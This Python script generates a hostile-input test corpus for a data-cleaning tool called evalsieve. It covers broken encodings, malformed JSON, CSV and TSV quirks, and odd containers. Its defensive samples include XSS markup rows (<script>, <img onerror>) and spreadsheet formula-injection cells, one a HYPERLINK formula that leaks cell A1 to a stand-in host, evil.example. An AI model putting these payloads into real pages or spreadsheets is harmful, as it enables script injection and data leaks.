"""The hostile-input corpus: small broken, odd or dangerous input files, and what evalsieve
must do with each one (a correct result, or a specific error that says what to fix).

Run from the repository root to rewrite ``tests/hostile/corpus/`` and its README.md:

    python3 tests/hostile/make_corpus.py

Deterministic (no clock, no randomness without a seed). The two 5 MB cases are not written
to the corpus folder (the repository stays small); the tests build them in a temporary folder
with :func:`build` (``big=True``).

Every case knows its own records (``rows``: each record's exact bytes, line ending included,
after gunzip and without the BOM; ``header``: the CSV/TSV header line), so the tests can
check that ``eval.clean.*`` is exactly the kept records and that clean + contaminated +
too-short rows account for every record once, without trusting evalsieve's parser.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import zipfile
from dataclasses import dataclass, field

HERE = os.path.dirname(os.path.abspath(__file__))
CORPUS = os.path.join(HERE, "corpus")

#: Sentences of 14+ distinct words each; the training partner quotes the even-numbered ones
#: (so rows built from them are contaminated) and never the odd-numbered ones.
S = [
    "The quiet harbour town kept seven lighthouses burning through every winter storm that year",
    "A patient gardener measured rainfall in copper buckets lined along the northern orchard wall",
    "Nineteen students carried heavy telescopes up the hill to watch the comet cross at midnight",
    "Her grandmother baked walnut bread every Sunday and sold the loaves at the village market",
    "Engineers tested the suspension bridge with forty loaded trucks parked across its central span",
    "The violinist practised scales for three hours before the orchestra rehearsed the final symphony",
    "Migrating geese landed on the frozen lake while fishermen drilled holes through the thick ice",
    "A small bakery near the station sells cinnamon rolls to commuters before the first train leaves",
    "The museum curator catalogued ancient coins found beneath the ruined abbey during spring excavations",
    "Volunteers planted two thousand oak saplings along the riverbank to slow erosion after the floods",
    "Each apprentice blacksmith forged a horseshoe, a hinge and a kitchen knife before the summer fair",
    "Astronomers recorded faint radio pulses coming from a distant galaxy cluster over several nights",
]
SHORT = "too short row"
MARKUP = [
    'Grandma says <script>alert("pwned")</script> the soup needs more salt before dinner is served tonight',
    'Click the picture <img src=x onerror="alert(1)"> to see how the bread rose in the old clay oven',
    "Close the editor </textarea><b>bold</b> and keep writing the report about the northern apple harvest",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click") shows why every spreadsheet cell needs care today',
    "+1 plus one equals two according to the village schoolteacher who taught arithmetic for forty years",
    "-2 degrees was the coldest morning the weather station on the mountain recorded in the whole decade",
    "@SUM(A1:A9) is what the accountant typed before the ledger for the fishing cooperative balanced again",
    "\tTabbed cell text that starts with a tab character, written by a careless export from an old tool",
    "\rCarriage return at the start of this cell came from a broken converter used by the archive team",
]
BOM = b"\xef\xbb\xbf"


@dataclass
class Case:
    """One hostile input file and the correct outcome for it.

    Attributes:
        name: file name (its extension is part of the case: it is the format hint).
        data: the file's bytes.
        what: one line for the README: what is odd about the file.
        outcome: one line for the README: what evalsieve must do.
        error: None when the file must give a correct result; else the words the error
            message must hold (lower case), every role.
        line: the line the error must name (None: no line, or not checked).
        rows: each record's exact bytes (line ending included; after gunzip; no BOM).
        header: the header line's bytes (CSV/TSV), b"" otherwise.
        para_error: the words the paraphrase job's error must hold when it must refuse a file
            that contamination accepts (no text to embed), else None.
        big: built for the tests only, never committed (too large).
        page_error: the words the page's error must hold for a file the CLI reads (a known
            limit of the browser), else None.
    """

    name: str
    data: bytes
    what: str
    outcome: str
    error: list[str] | None = None
    line: int | None = None
    rows: list[bytes] = field(default_factory=list)
    header: bytes = b""
    para_error: list[str] | None = None
    big: bool = False
    page_error: list[str] | None = None


def jl(obj) -> bytes:
    return json.dumps(obj, ensure_ascii=False).encode("utf-8")


def jsonl_rows(texts, key="question", end=b"\n") -> list[bytes]:
    return [jl({"id": f"r{i + 1}", key: t}) + end for i, t in enumerate(texts)]


def csv_cell(s: str) -> str:
    if any(c in s for c in ',"\r\n'):
        return '"' + s.replace('"', '""') + '"'
    return s


def csv_rows(rows, end="\n") -> list[bytes]:
    return [(",".join(csv_cell(c) for c in r) + end).encode("utf-8") for r in rows]


def gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


def ok(
    name,
    rows,
    what,
    outcome="a result; every record accounted for",
    header=b"",
    prefix=b"",
    wrap=None,
    **kw,
) -> Case:
    body = prefix + header + b"".join(rows)
    return Case(
        name, wrap(body) if wrap else body, what, outcome, rows=list(rows), header=header, **kw
    )


def bad(name, data, what, outcome, error, line=None, **kw) -> Case:
    return Case(name, data, what, outcome, error=error, line=line, **kw)


def training_partner() -> bytes:
    """The valid training file the eval cases run against: it quotes the even sentences,
    the markup rows and the formula rows inside longer documents."""
    docs = [f"Notes from the archive. {S[i]}. End of the entry." for i in range(0, len(S), 2)]
    docs += [f"Forum post: {m} (quoted)" for m in MARKUP]
    docs += [f"Spreadsheet dump: {f}" for f in FORMULAS]
    docs += [
        "An unrelated record about weather balloons drifting over the southern plains "
        "during a long dry summer without any rain at all"
    ] * 3
    return b"".join(jl({"text": d}) + b"\n" for d in docs)


def eval_partner() -> bytes:
    """The valid eval file the training cases run against (rows 1 and 3 quote even
    sentences, so they are contaminated when the case carries those sentences)."""
    return b"".join(jsonl_rows([S[0], S[1], S[2], S[3], SHORT]))


EVAL_PARTNER_ROWS = jsonl_rows([S[0], S[1], S[2], S[3], SHORT])


def cases(big: bool = False) -> list[Case]:
    """Every case, in README order; ``big`` adds the 5 MB ones."""
    out: list[Case] = []
    add = out.append
    base = jsonl_rows(S[:4] + [SHORT])

    # -- empty and nearly empty ------------------------------------------------------------
    add(bad("empty.jsonl", b"", "0 bytes", "error: the file is empty", ["empty"]))
    add(
        bad(
            "blank-lines.txt",
            b"\n \n\t\n\r\n",
            "only blank lines",
            "error: the file is empty",
            ["empty"],
        )
    )
    add(
        bad(
            "header-only.csv",
            b"question,answer\n",
            "a CSV header and no row",
            "error: no record (the header is not a row)",
            ["no record"],
        )
    )
    add(bad("empty.jsonl.gz", gz(b""), "gzip of nothing", "error: the file is empty", ["empty"]))

    # -- encodings and line ends -------------------------------------------------------------
    add(
        ok(
            "bom.jsonl",
            base,
            "UTF-8 BOM before JSON Lines",
            prefix=BOM,
            outcome="a result; the BOM is not part of any row; the clean file starts with it "
            "again, then the kept rows",
        )
    )
    add(
        ok(
            "bom.csv",
            csv_rows([[str(i + 1), s] for i, s in enumerate(S[:4])]),
            "UTF-8 BOM before a CSV header",
            prefix=BOM,
            header=b"id,question\n",
            outcome="a result; the first header name is `id`, not `\\ufeffid`; the clean file "
            "starts with the BOM",
        )
    )
    add(
        bad(
            "bom-twice.jsonl",
            BOM + BOM + b"".join(jsonl_rows(S[:4])),
            "Two UTF-8 BOMs before JSON Lines (a file saved with a BOM twice)",
            "error: the first mark is the file's, the second line 1's own text, which is not "
            "JSON; not both taken off and read on",
            ["line 1", "not valid json"],
            line=1,
        )
    )
    add(
        ok(
            "crlf.jsonl",
            jsonl_rows(S[:4] + [SHORT], end=b"\r\n"),
            "CRLF line ends",
            outcome="a result; kept rows keep their CRLF",
        )
    )
    add(
        ok(
            "crlf.csv",
            csv_rows([[str(i + 1), s] for i, s in enumerate(S[:4])], end="\r\n"),
            "CSV with CRLF line ends",
            header=b"id,question\r\n",
        )
    )
    add(
        ok(
            "mixed-endings.txt",
            [
                (S[0] + "\n").encode(),
                (S[1] + "\r\n").encode(),
                (S[2] + "\n").encode(),
                (S[3] + "\r\n").encode(),
            ],
            "plain text, LF and CRLF mixed",
        )
    )
    add(
        ok(
            "lone-cr.txt",
            [f"{t}\r".encode() for t in S[:4]],
            "plain text, lines end with a lone CR (classic Mac)",
            outcome="a result; lines split at CR, kept rows keep their CR",
        )
    )
    add(
        ok(
            "lone-cr.csv",
            [f"{i},{t}\r".encode() for i, t in enumerate(S[:3])]
            + [f'3,"two\rlines {S[3]}"\r'.encode()],
            "CSV with lone CR line ends (and a CR inside a quoted field)",
            header=b"id,question\r",
            outcome="a result; records split at CR outside quotes, kept rows keep their CR",
        )
    )
    add(
        ok(
            "no-final-newline.jsonl",
            base[:-1] + [base[-1].rstrip(b"\n")],
            "the last line has no newline",
            outcome="a result; the last row is read whole",
        )
    )
    add(
        ok(
            "no-final-newline.csv",
            csv_rows([["1", S[0]], ["2", S[1]]]) + [csv_rows([["3", S[2]]])[0].rstrip(b"\n")],
            "CSV whose last record has no newline",
            header=b"id,question\n",
        )
    )
    add(
        bad(
            "invalid-utf8.jsonl",
            b"".join(base[:2]) + jl({"q": "caf"}).replace(b"caf", b"caf\xe9 au lait") + b"\n",
            "a Latin-1 byte (0xE9) on line 3",
            "error naming the byte offset and line 3 (--skip-bad-lines: line 3 skipped and listed)",
            ["invalid utf-8", "byte"],
            line=3,
        )
    )
    add(
        bad(
            "latin1.csv",
            "id,question\n1,Crème brûlée for the café\n".encode("latin-1"),
            "a whole file in Latin-1",
            "error: invalid UTF-8 (re-encode; --skip-bad-lines: every "
            "record is malformed, so still an error)",
            ["invalid utf-8"],
            line=2,
        )
    )
    add(
        bad(
            "utf16le-bom.txt",
            "\n".join(S[:3]).encode("utf-16"),
            "UTF-16 with a BOM (FF FE)",
            "error: unsupported encoding UTF-16, re-encode as UTF-8",
            ["utf-16"],
        )
    )
    add(
        bad(
            "utf16be-bom.csv",
            ("\ufeffid,question\n1," + S[0] + "\n").encode("utf-16-be"),
            "UTF-16 big-endian with a BOM (FE FF)",
            "error: UTF-16, re-encode",
            ["utf-16"],
        )
    )
    add(
        bad(
            "utf16le-nobom.txt",
            "\n".join(S[:3]).encode("utf-16-le"),
            "UTF-16 without a BOM (every other byte NUL)",
            "error: NUL bytes (binary or UTF-16)",
            ["nul"],
        )
    )
    add(
        bad(
            "nul-bytes.jsonl",
            base[0] + base[1][:20] + b"\x00\x00\x00" + base[1][20:] + base[2],
            "NUL bytes inside a row",
            "error: NUL bytes (binary or UTF-16)",
            ["nul"],
            line=2,
        )
    )

    # -- JSON shapes -----------------------------------------------------------------------
    mid = jsonl_rows(S[:6])
    mid[3] = b'{"id": "r4", "question": "an unterminated string\n'
    add(
        bad(
            "malformed-middle.jsonl",
            b"".join(mid),
            "line 4 of 6 is broken JSON",
            "error naming line 4",
            ["not valid json"],
            line=4,
        )
    )
    add(
        bad(
            "array.json",
            json.dumps([{"question": s} for s in S[:3]], indent=1).encode(),
            "a JSON array, not JSON Lines",
            "error: a JSON array, with the jq command to convert",
            ["json array"],
            line=1,
        )
    )
    add(
        bad(
            "pretty.json",
            json.dumps({"question": S[0]}, indent=2).encode() + b"\n",
            "one pretty-printed JSON object over several lines",
            "error naming line 1",
            ["json"],
            line=1,
        )
    )
    add(
        bad(
            "scalars.jsonl",
            b'"just a string"\n42\n',
            "JSON lines that are not objects",
            "error: a JSON str where an object was expected, line 1",
            ["object"],
            line=1,
        )
    )
    add(
        ok(
            "non-text-values.jsonl",
            [
                jl({"question": S[0], "meta": 1}) + b"\n",
                jl({"question": 42, "meta": 2}) + b"\n",
                jl({"question": True, "meta": 3}) + b"\n",
                jl({"question": None, "meta": 4}) + b"\n",
                jl({"question": {"inner": S[1]}, "meta": 5}) + b"\n",
                jl({"question": [S[2], 7], "meta": 6}) + b"\n",
                jl({"question": S[3], "meta": 7}) + b"\n",
            ],
            "numbers, booleans, null, a nested object and a list where text was expected",
            outcome="a result; non-text rows are too short to score, none lost",
        )
    )
    add(
        ok(
            "only-numbers.jsonl",
            [jl({"score": i * 1.5, "ok": i % 2 == 0}) + b"\n" for i in range(6)],
            "no text at all, only numbers and booleans",
            outcome="a result: every row too short to score (paraphrases: rows embedded as JSON text)",
        )
    )
    deep = b'{"question": ' + b'{"a": ' * 5000 + b'"x"' + b"}" * 5000 + b"}\n"
    add(
        bad(
            "deep-nesting.jsonl",
            base[0] + deep + base[1],
            "an object nested 5,000 deep on line 2",
            "error naming line 2 (nested too deeply)",
            ["nested"],
            line=2,
        )
    )
    ok_deep = b'{"question": ' + b'{"a": ' * 398 + jl(S[1]) + b"}" * 398 + b"}\n"
    add(
        ok(
            "deep-399.jsonl",
            [base[0], ok_deep, base[1]],
            "an object nested 399 deep on line 2 (the limit is 400)",
            outcome="a result; the nested field is a path `question.a.a...`",
        )
    )
    add(
        ok(
            "lone-surrogate.jsonl",
            [
                jl({"question": S[0]}) + b"\n",
                b'{"question": "' + S[2].encode() + b' \\ud800 broken escape"}\n',
                jl({"question": S[3]}) + b"\n",
            ],
            "a JSON escape for a lone surrogate (\\ud800) inside a row",
            outcome="a result; the surrogate cannot be written as UTF-8, so it is shown as U+FFFD in reports "
            "and the clean file keeps the row's bytes",
        )
    )
    add(
        ok(
            "duplicated-rows.jsonl",
            jsonl_rows([S[0], S[1], S[1], S[0], S[1]]),
            "the same rows several times",
            outcome="a result; each copy is its own row",
        )
    )

    # -- CSV / TSV -------------------------------------------------------------------------
    add(
        ok(
            "csv-quoted-newlines.csv",
            csv_rows(
                [
                    ["1", S[0] + "\nsecond line"],
                    ["2", S[1] + "\r\nwindows line"],
                    ["3", S[2]],
                    ["4", "a,b,c " + S[3]],
                ]
            ),
            "CSV fields holding LF, CRLF and commas inside quotes",
            header=b"id,question\n",
        )
    )
    add(
        ok(
            "csv-doubled-quotes.csv",
            csv_rows(
                [["1", 'She said ""' + S[0] + '"" loudly'], ["2", '"' + S[1] + '"'], ["3", S[3]]]
            ),
            "CSV with doubled quotes inside quoted fields",
            header=b"id,question\n",
        )
    )
    add(
        bad(
            "csv-ragged.csv",
            b"id,question\n1,"
            + S[0].encode()
            + b"\n2\n3,"
            + S[1].encode()
            + b",extra,cells\n4,"
            + S[3].encode()
            + b"\n",
            "CSV rows with fewer and more cells than the header",
            "error naming line 3 (1 field where the header has 2): never a guess",
            ["1 field but the header has 2"],
            line=3,
        )
    )
    add(
        ok(
            "csv-duplicate-headers.csv",
            csv_rows([["1", S[0], "x"], ["2", S[1], "y"], ["3", S[3], "z"]]),
            "CSV header with the same name twice",
            header=b"id,question,question\n",
            outcome="a result; the second one is `question (2)`",
        )
    )
    add(
        ok(
            "csv-semicolon.csv",
            [f"{i};{t}\n".encode() for i, t in enumerate(S[:3])],
            "a `;`-separated file named .csv (an Excel export)",
            header=b"id;question\n",
            outcome="a result; the separator `;` is sniffed from content",
        )
    )
    add(
        ok(
            "semicolon-named.tsv",
            [f'{i};"{t}; with a semicolon"\n'.encode() for i, t in enumerate([S[10], S[1], S[2]])],
            "a `;`-separated file named .tsv, commas and a quoted `;` in its text",
            header=b"id;question\n",
            outcome="a result; read as `;`-separated (not one tab column), clean file byte-exact",
        )
    )
    add(
        ok(
            "pipe-separated.psv",
            [f"{i}|{t}\n".encode() for i, t in enumerate(S[:3])],
            "a `|`-separated file with no known extension",
            header=b"id|question\n",
            outcome="a result; the separator `|` is sniffed from content",
        )
    )
    add(
        bad(
            "csv-unclosed-quote.csv",
            b'id,question\n1,fine row here\n2,"never closed ' + S[0].encode() + b"\n3,last\n",
            "a quoted field that is never closed",
            "error naming line 3",
            ["never closed"],
            line=3,
        )
    )
    add(
        ok(
            "csv-stray-quote.csv",
            [
                b'1,a 5" screen and ' + S[0].encode() + b"\n",
                b"2," + S[1].encode() + b"\n",
                b'3,the 7" record player ' + S[2].encode() + b"\n",
            ],
            'CSV with a bare `"` inside unquoted fields (5" screen)',
            header=b"id,question\n",
            outcome="a result; the quote is a character of the field, rows are not merged",
        )
    )
    add(
        bad(
            "tsv-stray-quotes.tsv",
            f'id\tquestion\n1\t"{S[0]}\n2\t{S[1]} "quoted" \n3\t{S[2]}"\n'.encode(),
            "TSV whose fields start with a quote that is never closed the csv way",
            "error naming line 2: TSV is read with quoting, as the csv module and pandas "
            "write it, and this is not valid quoting",
            ["malformed tsv record"],
            line=2,
        )
    )
    add(
        ok(
            "tsv-quoted.tsv",
            [
                b'"What did Nixon mean by ""I am not a crook""?"\t"He was answering a question about '
                b'his personal finances\nduring a press conference in Orlando in 1973"\n',
                f'"{S[1]}\twith a quoted tab"\tplain\n'.encode(),
                f'{S[2]}\t"{S[3]}"\r\n'.encode(),
            ],
            "TSV written by the csv module / pandas: quoted newline, quoted tab, doubled quotes",
            header=b"question\tanswer\n",
            outcome="a result; three records (the quoted newline and tab stay in their fields)",
        )
    )
    add(
        bad(
            "tsv-ragged.tsv",
            f"id\tquestion\n1\t{S[0]}\n2\t{S[1]}\textra\n".encode(),
            "TSV with a row of three fields under a two-field header",
            "error naming line 3",
            ["3 fields but the header has 2"],
            line=3,
        )
    )

    # -- gzip and other containers --------------------------------------------------------------
    add(
        bad(
            "truncated.jsonl.gz",
            gz(b"".join(base))[:-12],
            "a gzip file cut short",
            "error: the gzip stream is truncated",
            ["gzip"],
        )
    )
    add(
        ok(
            "multi-member.jsonl.gz",
            base,
            "two gzip members concatenated (RFC 1952)",
            wrap=lambda b: gz(b"".join(base[:2])) + gz(b"".join(base[2:])),
            outcome="CLI: a result, rows of both members; page: error, the browser's "
            "DecompressionStream reads one member (recompress, or use the CLI)",
            page_error=["several members"],
        )
    )
    add(
        ok(
            "plain-named.jsonl.gz",
            base,
            "plain JSON Lines named .gz",
            outcome="a result (gzip is detected from content)",
        )
    )
    add(
        ok(
            "gzip-named-plain.jsonl",
            base,
            "gzip content named .jsonl",
            wrap=gz,
            outcome="a result (gzip is detected from content)",
        )
    )
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("eval.jsonl", date_time=(2020, 1, 1, 0, 0, 0)), b"".join(base))
    add(
        bad(
            "zipped.jsonl",
            zbuf.getvalue(),
            "a ZIP archive named .jsonl",
            "error: unsupported format, a ZIP archive (unzip it first)",
            ["zip"],
        )
    )
    add(
        bad(
            "table.parquet",
            b"PAR1\x15\x04\x15\x10\x15\x14L\x15\x02\x15\x00\x12\x00\x00"
            + b"\x00" * 8
            + b"question"
            + b"\x1c\x15\x0c"
            + b"PAR1",
            "a broken Parquet file (PAR1 magic, no valid footer)",
            "error: not a readable Parquet file (CLI: pyarrow's reason; page: hyparquet's)",
            ["parquet"],
        )
    )
    with open(os.path.join(HERE, "..", "fixtures", "chat_train.parquet"), "rb") as f:
        valid_parquet = f.read()  # tests/fixtures/make_parquet_fixtures.py
    add(
        bad(
            "gzipped.parquet.gz",
            gz(valid_parquet),
            "a valid Parquet file inside gzip",
            "error: a gzip-compressed Parquet file, gunzip it first (CLI and page)",
            ["parquet", "gunzip"],
        )
    )
    add(
        bad(
            "parquet-named.csv",
            b"PAR1" + bytes(range(256)) + b"PAR1",
            "Parquet bytes named .csv",
            "error: Parquet is detected by content, then not a readable Parquet file (CLI and page)",
            ["parquet"],
        )
    )

    # -- Unicode ---------------------------------------------------------------------------
    add(
        ok(
            "rtl-zero-width.jsonl",
            jsonl_rows(
                [
                    "مرحبا بالعالم هذه جملة عربية طويلة بما يكفي لكي يتم تقييمها بشكل صحيح في الاختبار اليوم",
                    "שלום עולם זה משפט עברי ארוך מספיק כדי שיהיה אפשר לבדוק אותו כראוי בבדיקה הזאת היום",
                    "zero\u200bwidth\u200cjoiners\u200d and \u202eoverride\u202c marks " + S[1],
                    "\u2067isolate\u2069 " + S[0],
                ]
            ),
            "Arabic, Hebrew, zero-width and bidi control characters",
            outcome="a result; rendered as text",
        )
    )
    add(
        ok(
            "emoji-combining.jsonl",
            jsonl_rows(
                [
                    "👩‍👩‍👧‍👦 family emoji 🏳️‍🌈 flag and 🇫🇷 " + S[2],
                    "Cafe\u0301 nai\u0308ve re\u0301sume\u0301 with combining marks " + S[3],
                    "Z\u0351\u0352\u0353a\u0354\u0355l\u0356\u0357g\u0358o text " + S[5],
                ]
            ),
            "emoji (ZWJ sequences, flags) and combining marks",
            outcome="a result",
        )
    )
    add(
        ok(
            "markup.jsonl",
            jsonl_rows(MARKUP + [S[1]]),
            "rows with <script>, <img onerror=...>, </textarea>",
            outcome="a result; markup rows are contaminated and render as text in the page and the "
            "HTML report (no element is created)",
        )
    )
    add(
        ok(
            "formula-cells.csv",
            csv_rows(
                [[str(i + 1), f] for i, f in enumerate(FORMULAS)]
                + [["7", FORMULAS[0]], ["8", S[1]]]
            ),
            "CSV cells starting with = + - @ tab CR",
            header=b"id,question\n",
            outcome="a result; report CSVs prefix those cells with ', eval.clean.csv is byte-exact",
        )
    )

    # -- big (built by the tests, not committed) -----------------------------------------------
    if big:
        words = (" ".join(S) + " ").encode()
        line = (words * (5_000_000 // len(words) + 1))[:5_000_000].rstrip(b" ")
        add(
            ok(
                "long-line.txt",
                [line],
                "one 5 MB line, no newline",
                big=True,
                outcome="a result: one row",
            )
        )
        add(
            ok(
                "long-line.jsonl",
                [b'{"question": "' + line + b'"}\n'] + base[:2],
                "a 5 MB JSON Lines record first, then short rows",
                big=True,
                outcome="a result: three rows (the head is read up to the end of the first record)",
            )
        )
    return out


def readme(all_cases: list[Case]) -> str:
    lines = [
        "# Hostile inputs",
        "",
        "Small broken, odd or dangerous input files, written by `make_corpus.py` (deterministic;",
        "run it from the repository root to rewrite this folder). The tests in `tests/hostile`",
        "run every case through both CLI jobs (as the eval file and as the training file of",
        "`evalsieve contamination`, and through `evalsieve paraphrases`) and through the page's",
        "file reading (`tests/e2e/test_e2e_hostile.py`).",
        "",
        "A correct **result** means: exit status 0; `eval.clean.*` is byte for byte the kept",
        "records (header line first for CSV/TSV); clean + contaminated + too-short rows account",
        "for every record exactly once; CSV exports neutralise formula-like cells; the HTML report",
        "shows markup as text. An **error** means: exit status 2, a message naming the file (and",
        "the line where one applies) and what was expected, no traceback, no export written; the",
        "page shows the same kind of message and stays usable.",
        "",
        "| file | what is odd | correct outcome |",
        "|---|---|---|",
    ]
    for c in all_cases:
        name = c.name + (" (built by the tests, 5 MB)" if c.big else "")
        lines.append(f"| `{name}` | {c.what} | {c.outcome} |")
    lines += [
        "",
        "Valid partners: `_train-partner.jsonl` (training file for the eval cases; it quotes",
        "the even-numbered sentences of `make_corpus.S`, the markup rows and the formula rows) and",
        "`_eval-partner.jsonl` (eval file for the training cases).",
        "",
    ]
    return "\n".join(lines)


def build(folder: str, big: bool = False) -> list[Case]:
    """Write every case (and the two partners) into ``folder``. Returns the cases."""
    os.makedirs(folder, exist_ok=True)
    all_cases = cases(big)
    for c in all_cases:
        with open(os.path.join(folder, c.name), "wb") as f:
            f.write(c.data)
    with open(os.path.join(folder, "_train-partner.jsonl"), "wb") as f:
        f.write(training_partner())
    with open(os.path.join(folder, "_eval-partner.jsonl"), "wb") as f:
        f.write(eval_partner())
    return all_cases


def main() -> None:
    build(CORPUS)
    with open(os.path.join(CORPUS, "README.md"), "w", encoding="utf-8") as f:
        f.write(readme(cases(big=True)))


if __name__ == "__main__":
    main()
